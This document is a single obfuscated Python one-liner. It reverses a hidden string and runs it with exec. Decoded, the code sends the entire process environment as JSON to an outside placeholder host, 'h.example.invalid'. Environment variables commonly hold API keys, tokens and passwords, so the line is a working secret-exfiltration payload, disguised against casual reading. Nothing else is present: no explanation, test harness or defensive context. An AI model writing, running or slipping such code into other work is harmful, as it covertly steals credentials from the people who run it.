exec(''.join(reversed("\n))(edocne.))norivne.so(tcid(spmud.nosj=atad ,'e/dilavni.elpmaxe.h//:sptth'(nepolru.tseuqer.billru\ntseuqer.billru ,nosj ,so tropmi")))
